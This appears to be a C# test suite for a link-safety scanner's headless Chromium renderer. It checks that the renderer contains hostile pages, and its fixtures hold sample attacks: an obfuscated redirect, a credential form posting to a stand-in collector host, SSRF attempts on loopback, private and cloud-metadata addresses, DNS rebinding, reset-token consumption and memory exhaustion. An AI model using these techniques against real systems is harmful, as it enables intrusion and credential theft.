using Microsoft.AspNetCore.Http;
using Nylas.LinkSafety.Scanning.Rendering;
using Nylas.LinkSafety.Testing.Time;

namespace Nylas.LinkSafety.Rendering.Tests;

public sealed class ChromiumRendererSpecs(MadeUpWeb web) : IClassFixture<MadeUpWeb>
{
    [Fact]
    public async Task A_redirect_by_script_that_cannot_be_read_is_seen_at_its_end()
    {
        web.Serve("hop.example-site.com/", "<title>Wait</title><script>var p=['/en','d'];setTimeout(function(){window[['loc','ation'].join('')]['hr'+'ef']=p.reverse().join('').split('').reverse().join('')==='x'?'/':'http://final.example-site.com/page'},10)</script>");
        web.Serve("final.example-site.com/page", "<title>The end</title><p>Arrived");
        await using var under = new RendererUnderTest(web);

        var page = await under.RenderAsync("http://hop.example-site.com/");

        Assert.Equal((RenderOutcome.Rendered, "http://final.example-site.com/page"), (page.Outcome, page.FinalUrl));
        Assert.Contains("<title>The end</title>", RendererUnderTest.TextOf(page), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_script_builds_is_in_the_document_and_in_the_picture()
    {
        web.Serve("built.example-site.com/", """
            <title>x</title><body><script>
            const form = document.createElement('form');
            form.action = 'http://collector.example-site.net/take';
            form.innerHTML = '<h1>Sign in</h1><input name=user><input type=password name=secret><button>Go</button>';
            document.body.append(form);
            </script>
            """);
        await using var under = new RendererUnderTest(web);

        var page = await under.RenderAsync("http://built.example-site.com/");

        Assert.Equal(RenderOutcome.Rendered, page.Outcome);
        Assert.Contains("""<form action="http://collector.example-site.net/take"><h1>Sign in</h1><input name="user"><input type="password" name="secret">""", RendererUnderTest.TextOf(page), StringComparison.Ordinal);
        Assert.Equal([0xFF, 0xD8, 0xFF], page.Screenshot[..3].ToArray());
        // The browser has nothing of its own to ask anybody for.
        Assert.All(under.Resolver.Queries, static name => Assert.EndsWith(".example-site.com", name, StringComparison.Ordinal));
    }

    [Fact]
    public async Task No_page_reaches_a_private_address_by_any_means()
    {
        var inside = $"127.0.0.1:{web.InsidePort}";
        web.Serve("sly.example-site.com/", $$"""
            <title>sly</title>
            <img src="http://{{inside}}/image"><img src="http://127.0.0.1/image"><img src="http://[::1]/image"><img src="http://localhost/image">
            <img src="http://169.254.169.254/latest/meta-data/"><img src="http://0x7f.1/image"><img src="http://2130706433/image">
            <iframe src="http://{{inside}}/frame"></iframe><iframe src="http://10.0.0.1/frame"></iframe>
            <iframe src="http://sly.example-site.com/redirect"></iframe>
            <link rel=stylesheet href="http://192.168.0.1/style"><script src="http://{{inside}}/script"></script>
            <script>
            fetch('http://{{inside}}/fetch', {mode: 'no-cors'}).catch(() => 0);
            fetch('http://169.254.169.254/fetch', {mode: 'no-cors'}).catch(() => 0);
            navigator.sendBeacon('http://{{inside}}/beacon', 'x');
            for (const url of ['ws://{{inside}}/socket', 'ws://127.0.0.1/socket', 'wss://127.0.0.1/socket']) new WebSocket(url);
            new EventSource('http://{{inside}}/events');
            const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:{{web.InsidePort}}'}, {urls: 'turn:127.0.0.1:{{web.InsidePort}}?transport=tcp', username: 'a', credential: 'b'}]});
            peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
            fetch('http://rebinding.example-site.com/1', {mode: 'no-cors'}).catch(() => 0).finally(() => fetch('http://rebinding.example-site.com/2', {mode: 'no-cors'}).catch(() => 0));
            window.open('http://{{inside}}/popup');
            </script>
            """);
        web.Serve("sly.example-site.com/redirect", context => RedirectAsync(context, $"http://{inside}/redirected"));
        await using var under = new RendererUnderTest(web);
        under.Resolver.Answer("rebinding.example-site.com", "93.184.216.35").Answer("rebinding.example-site.com", "127.0.0.1");

        var page = await under.RenderAsync("http://sly.example-site.com/");

        Assert.Equal(RenderOutcome.Rendered, page.Outcome);
        Assert.Empty(web.Intrusions);
        Assert.All(under.Connector.Vetted, static endPoint => Assert.StartsWith("93.184.216.", endPoint.Address.ToString(), StringComparison.Ordinal));
        Assert.Contains("127.0.0.1:80", page.RefusedHosts);
        Assert.Contains("169.254.169.254:80", page.RefusedHosts);
        Assert.Contains($"127.0.0.1:{web.InsidePort}", page.RefusedHosts);
        Assert.Contains("rebinding.example-site.com:80", page.RefusedHosts);
    }

    [Fact]
    public async Task A_page_that_goes_on_to_a_private_address_is_not_opened()
    {
        web.Serve("inward.example-site.com/", context => RedirectAsync(context, $"http://127.0.0.1:{web.InsidePort}/"));
        await using var under = new RendererUnderTest(web);

        var page = await under.RenderAsync("http://inward.example-site.com/");

        Assert.NotEqual(RenderOutcome.TokenBearing, page.Outcome);
        Assert.DoesNotContain("the secret", RendererUnderTest.TextOf(page), StringComparison.Ordinal);
        Assert.Empty(web.Intrusions);
    }

    [Theory]
    [InlineData("location = '{0}'", RenderOutcome.TokenBearing)]
    [InlineData("location.replace('/go')", RenderOutcome.TokenBearing)]
    [InlineData("document.body.innerHTML = '<iframe src=\"{0}\"></iframe>'", RenderOutcome.Rendered)]
    [InlineData("document.body.innerHTML = '<iframe src=/go></iframe>'", RenderOutcome.Rendered)]
    [InlineData("document.body.innerHTML = '<img src=\"{0}\"><img src=/go>'", RenderOutcome.Rendered)]
    [InlineData("fetch('/go', {mode: 'no-cors'}).catch(() => 0); navigator.sendBeacon('{0}', 'x')", RenderOutcome.Rendered)]
    public async Task A_one_time_link_is_not_used_up_however_the_page_leads_to_it(string script, RenderOutcome expected)
    {
        const string OneTime = "http://accounts.example-site.com/reset-password?token=8f14e45fceea167a5a36dedd4bea2543";
        web.Serve("lead.example-site.com/", $"<title>lead</title><body><script>{script.Replace("{0}", OneTime, StringComparison.Ordinal)}</script>");
        web.Serve("lead.example-site.com/go", static context => RedirectAsync(context, OneTime));
        await using var under = new RendererUnderTest(web);

        var page = await under.RenderAsync("http://lead.example-site.com/");

        Assert.Equal(expected, page.Outcome);
        Assert.DoesNotContain(web.Visits, static visit => visit.Contains("reset-password", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_download_is_not_a_page()
    {
        web.Serve("file.example-site.com/", context =>
        {
            context.Response.Headers.ContentDisposition = "attachment; filename=invoice.exe";
            context.Response.ContentType = "application/octet-stream";
            return context.Response.WriteAsync("MZ");
        });
        await using var under = new RendererUnderTest(web);

        Assert.Equal(RenderOutcome.NotOpened, (await under.RenderAsync("http://file.example-site.com/")).Outcome);
    }

    [Fact]
    public async Task A_look_whose_time_is_over_ends_and_leaves_nothing_behind()
    {
        var asked = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        web.Serve("slow.example-site.com/", async context =>
        {
            asked.TrySetResult();
            await Task.Delay(Timeout.InfiniteTimeSpan, TimeProvider.System, context.RequestAborted);
        });
        var clock = new FakeTimeProvider();
        await using var under = new RendererUnderTest(web, clock: clock);

        var look = under.RenderAsync("http://slow.example-site.com/");
        await asked.Task;
        clock.Advance(TimeSpan.FromMinutes(2));
        var page = await look;

        Assert.Equal(RenderOutcome.TimedOut, page.Outcome);
        Assert.Empty(Directory.GetFileSystemEntries(under.Profiles));
        Assert.DoesNotContain(Directory.EnumerateDirectories("/proc").Select(CommandLine), line => line.Contains(under.Profiles, StringComparison.Ordinal));
    }

    /// <summary>Its time was over before the browser was there, which comes all the same.</summary>
    [Fact]
    public async Task A_look_that_ends_while_its_browser_is_being_started_waits_for_it_and_ends_it()
    {
        await using var under = new RendererUnderTest(web);

        var (page, hasStarted) = await under.LookWithoutTimeAsync("http://any.example-site.com/");

        Assert.Equal((RenderOutcome.TimedOut, true), (page.Outcome, hasStarted));
        Assert.Empty(Directory.GetFileSystemEntries(under.Profiles));
        Assert.DoesNotContain(Directory.EnumerateDirectories("/proc").Select(CommandLine), line => line.Contains(under.Profiles, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_page_that_eats_memory_is_ended()
    {
        web.Serve("hungry.example-site.com/", "<title>hungry</title><script>const kept=[];setInterval(()=>{for(let i=0;i<4;i++)kept.push(new Uint8Array(16e6).fill(1))},1)</script>");
        await using var under = new RendererUnderTest(web, options =>
        {
            options.MaxMemoryBytes = 700_000_000;
            options.SettleTime = TimeSpan.FromSeconds(10);
        });

        // Either our watch was first, or the browser's own; both end it, and neither says anything of the page.
        Assert.Contains((await under.RenderAsync("http://hungry.example-site.com/")).Outcome, (RenderOutcome[])[RenderOutcome.TooLarge, RenderOutcome.BrowserFailed]);
    }

    [Fact]
    public async Task A_browser_that_is_not_there_is_an_outcome()
    {
        await using var under = new RendererUnderTest(web, static options => options.ExecutablePath = "/nonexistent/chromium");

        Assert.Equal(RenderOutcome.BrowserFailed, (await under.RenderAsync("http://any.example-site.com/")).Outcome);
    }

    private static Task RedirectAsync(HttpContext context, string target)
    {
        context.Response.Redirect(target);
        return Task.CompletedTask;
    }

    private static string CommandLine(string process)
    {
        try
        {
            return File.ReadAllText(Path.Combine(process, "cmdline"));
        }
        catch (IOException)
        {
            return "";
        }
        catch (UnauthorizedAccessException)
        {
            return "";
        }
    }
}
